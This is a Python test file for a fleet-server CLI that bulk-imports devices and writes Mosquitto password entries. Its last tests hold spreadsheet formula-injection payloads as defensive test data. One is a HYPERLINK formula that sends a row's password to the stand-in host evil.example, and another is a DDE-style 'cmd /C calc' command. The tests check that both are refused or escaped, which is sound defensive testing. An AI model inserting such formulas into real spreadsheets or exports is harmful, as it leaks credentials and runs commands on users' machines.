"""`fleet-server device import FILE.csv`: many devices with one password-file write and one broker reload, on
the project's real PostGIS and Mosquitto; bad files change nothing."""

from __future__ import annotations

import csv
import secrets
import stat

import paho.mqtt.client as mqtt
import psycopg
import pytest
from paho.mqtt.enums import CallbackAPIVersion
from typer.testing import CliRunner

from fleet_server.cli import app
from fleet_server.migrate import migrate
from fleet_server.mqtt_accounts import mosquitto_hash
from tests.server_fixtures import wait_for


@pytest.fixture
def conf(fresh_db, service_info, broker, tmp_path, monkeypatch) -> str:
    """A server.toml on the session's broker files and this test's own migrated database (the CLI reads its DSN
    from the environment)."""
    monkeypatch.setenv("ROADMON_DATABASE_DSN", fresh_db)
    migrate(fresh_db)
    path = tmp_path / "server.toml"
    path.write_text(f"""
[mqtt]
port = {service_info.mqtt_port}
[broker_files]
passwd_file = "{broker.passwd_file}"
acl_file = "{broker.acl_file}"
pid_file = "{broker.pid_file}"
[models]
dir = "{tmp_path / 'models'}"
""")
    return str(path)


def _can_log_in(host: str, port: int, user: str, password: str) -> bool:
    """Whether the broker accepts USER/PASSWORD (CONNACK success) within a few seconds."""
    result: list[bool] = []
    client = mqtt.Client(CallbackAPIVersion.VERSION2, client_id=f"imp-{secrets.token_hex(3)}", protocol=mqtt.MQTTv5)
    client.username_pw_set(user, password)
    client.on_connect = lambda c, u, f, rc, p: result.append(not rc.is_failure)
    client.connect(host, port)
    client.loop_start()
    try:
        wait_for(lambda: bool(result), timeout_s=10)
    finally:
        client.disconnect()
        client.loop_stop()
    return result == [True]


@pytest.mark.services
def test_import_creates_working_logins_and_a_private_sheet(conf, fresh_db, service_info, broker, tmp_path) -> None:
    tag = secrets.token_hex(3)
    ids = [f"imp-{tag}-{i}" for i in range(25)]
    src = tmp_path / "fleet.csv"
    src.write_text("device_id,groups\n# depot north\n" + "".join(
        f"{d},{'north;buses' if i % 2 else ''}\n" for i, d in enumerate(ids)) + "\n")
    before = broker.passwd_file.read_text()
    result = CliRunner().invoke(app, ["-c", conf, "device", "import", str(src), "--http-tokens"])
    assert result.exit_code == 0, result.output
    assert "imported 25 device(s)" in result.output and "broker reloaded" in result.output

    sheet = tmp_path / "fleet.credentials.csv"
    assert stat.S_IMODE(sheet.stat().st_mode) == 0o600
    rows = list(csv.DictReader(sheet.open()))
    assert [r["device_id"] for r in rows] == ids
    assert rows[1]["groups"] == "north;buses" and rows[0]["groups"] == ""
    assert all(r["mqtt_username"] == r["device_id"] and len(r["mqtt_password"]) >= 24 for r in rows)
    assert all(r["http_token"].startswith("rmt_") for r in rows)

    # The password file kept every earlier line and gained one per device, in mosquitto_passwd's format.
    after = broker.passwd_file.read_text().splitlines()
    assert set(before.splitlines()) <= set(after)
    lines = {line.split(":", 1)[0]: line.split(":", 1)[1] for line in after}
    assert set(ids) <= set(lines)
    assert all(lines[d].startswith("$7$101$") for d in ids)
    assert stat.S_IMODE(broker.passwd_file.stat().st_mode) == 0o600
    with psycopg.connect(fresh_db) as conn:
        got = dict(conn.execute("SELECT id, groups FROM devices").fetchall())
        assert got[ids[1]] == ["north", "buses"] and got[ids[0]] == []
        assert conn.execute("SELECT count(*) FROM api_tokens WHERE role = 'device'").fetchone()[0] == 25

    # A device logs in to the real broker with the issued credentials; a wrong password is refused.
    assert wait_for(lambda: _can_log_in(service_info.mqtt_host, service_info.mqtt_port, ids[3],
                                        rows[3]["mqtt_password"]), timeout_s=10)
    assert not _can_log_in(service_info.mqtt_host, service_info.mqtt_port, ids[3], "wrong")

    # Importing an id again: refused naming its line, nothing written; --skip-existing leaves it alone.
    again = tmp_path / "again.csv"
    again.write_text(f"imp-{tag}-new\n{ids[2]}\n")
    snapshot = broker.passwd_file.read_text()
    refused = CliRunner().invoke(app, ["-c", conf, "device", "import", str(again)])
    assert refused.exit_code == 1 and "line 2" in refused.output and "already exists" in refused.output
    assert broker.passwd_file.read_text() == snapshot and not (tmp_path / "again.credentials.csv").exists()
    skipped = CliRunner().invoke(app, ["-c", conf, "device", "import", str(again), "--skip-existing"])
    assert skipped.exit_code == 0 and "skipped 1" in skipped.output, skipped.output
    new_rows = list(csv.DictReader((tmp_path / "again.credentials.csv").open()))
    assert [r["device_id"] for r in new_rows] == [f"imp-{tag}-new"]
    # The skipped device's login is the one issued first.
    assert broker.passwd_file.read_text().count(f"\n{ids[2]}:") + broker.passwd_file.read_text().startswith(
        f"{ids[2]}:") == 1
    # The credentials file is never overwritten.
    twice = CliRunner().invoke(app, ["-c", conf, "device", "import", str(again), "--skip-existing"])
    assert twice.exit_code == 1 and "never overwritten" in twice.output
    third = CliRunner().invoke(app, ["-c", conf, "device", "import", str(again), "--skip-existing",
                                     "--out", str(tmp_path / "third.csv")])
    assert third.exit_code == 0 and "no new devices" in third.output, third.output


@pytest.mark.services
def test_bad_rows_name_their_lines_and_write_nothing(conf, fresh_db, broker, tmp_path) -> None:
    src = tmp_path / "bad.csv"
    src.write_text("veh-ok-1\nhas space\nveh-ok-2\nroadmon-server\nveh-ok-1\n")
    snapshot = broker.passwd_file.read_text()
    result = CliRunner().invoke(app, ["-c", conf, "device", "import", str(src)])
    assert result.exit_code == 1
    for expected in ("line 2: invalid device id 'has space'", "line 4: device id 'roadmon-server' is reserved",
                     "line 5: device id 'veh-ok-1' repeats line 1", "nothing imported"):
        assert expected in result.output, result.output
    assert broker.passwd_file.read_text() == snapshot
    assert not (tmp_path / "bad.credentials.csv").exists()
    with psycopg.connect(fresh_db) as conn:
        assert conn.execute("SELECT count(*) FROM devices").fetchone()[0] == 0


def test_hash_is_mosquitto_passwd_format() -> None:
    salt = bytes(range(12))
    assert mosquitto_hash("pw", salt).startswith("$7$101$AAECAwQFBgcICQoL$")


def test_broker_logins_are_written_in_process_under_the_import_lock(tmp_path, monkeypatch) -> None:
    # `mosquitto_passwd -b FILE USER PASSWORD` showed every new password to any local user (/proc/*/cmdline);
    # add and revoke wrote the file without the import's lock, so one during a bulk import was lost or undone.
    import subprocess
    import threading

    from fleet_server import mqtt_accounts

    monkeypatch.setattr(subprocess, "run", lambda *a, **k: pytest.fail(f"no program is run: {a}"))
    passwd = tmp_path / "passwd"
    mqtt_accounts.set_password(passwd, "veh-1", "pw-1")
    done = threading.Event()
    with mqtt_accounts.locked(passwd):  # an import holds the file
        threading.Thread(target=lambda: (mqtt_accounts.set_password(passwd, "veh-2", "pw-2"), done.set())).start()
        assert not done.wait(0.3), "wrote while an import held the file"
        # the import writes its own lines meanwhile (as import_devices does: a new file renamed over it)
        mqtt_accounts.write_new(passwd, passwd.read_text() + "imp-1:x\n", like=passwd).replace(passwd)
    assert done.wait(5)
    users = [line.split(":", 1)[0] for line in passwd.read_text().splitlines()]
    assert users == ["veh-1", "imp-1", "veh-2"] and passwd.stat().st_mode & 0o777 == 0o600
    assert mqtt_accounts.remove_user(passwd, "veh-1") and not mqtt_accounts.remove_user(passwd, "veh-1")
    assert passwd.read_text().splitlines()[1].startswith("veh-2:$7$101$")


def test_broker_passwords_never_start_like_a_spreadsheet_formula() -> None:
    from fleet_server import mqtt_accounts

    passwords = [mqtt_accounts.new_password() for _ in range(3000)]  # ~1 in 64 began with "-" before
    assert not [p for p in passwords if p.startswith("-")] and all(len(p) == 32 for p in passwords)


HYPERLINK = '"=HYPERLINK(""http://evil.example/x?p=""&F2,""open manual"")"'  # sends the row's password away


@pytest.mark.services
def test_groups_a_spreadsheet_would_run_and_ids_a_cli_misreads_are_refused(conf, fresh_db, broker,
                                                                            tmp_path) -> None:
    src = tmp_path / "evil.csv"
    src.write_text(f"device_id,groups\nveh-ok-1,north\nveh-ok-2,{HYPERLINK}\nveh-ok-3,\"north;@SUM(1+1)*cmd|' /C "
                   "calc'!A0\"\n-veh-9\n..\n.hidden\nveh-ok-4,+1\n")
    snapshot = broker.passwd_file.read_text()
    result = CliRunner().invoke(app, ["-c", conf, "device", "import", str(src)])
    assert result.exit_code == 1, result.output
    for line in (3, 4, 8):
        assert f"line {line}: invalid group" in result.output and "formula" in result.output, result.output
    for line, device in ((5, "-veh-9"), (6, ".."), (7, ".hidden")):
        assert f"line {line}: invalid device id {device!r}" in result.output, result.output
    assert "starting with a letter or digit" in result.output
    assert broker.passwd_file.read_text() == snapshot and not (tmp_path / "evil.credentials.csv").exists()
    with psycopg.connect(fresh_db) as conn:
        assert conn.execute("SELECT count(*) FROM devices").fetchone()[0] == 0


def test_credentials_sheet_runs_nothing_in_a_spreadsheet() -> None:
    # Rows made without parse_rows (which refuses such groups now): the sheet itself must still be safe.
    from fleet_server import provision
    from fleet_server.config import ServerConfig

    formulas = ['=HYPERLINK("http://evil.example/x?p="&F2,"open manual")', "@SUM(1+1)*cmd|' /C calc'!A0",
                "+1", "-2", "\t=1"]
    rows = [provision.Row(i, f"veh-{i}", (g,)) for i, g in enumerate(formulas)]
    sheet = provision._credentials_csv(rows, {r.device_id: "pw" for r in rows}, {r.device_id: "rmt_x" for r in rows},
                                       ServerConfig())
    cells = list(csv.DictReader(sheet.splitlines()))
    assert [c["groups"] for c in cells] == ["'" + g for g in formulas]
    assert [c["device_id"] for c in cells] == [r.device_id for r in rows] and cells[0]["mqtt_port"] == "1883"
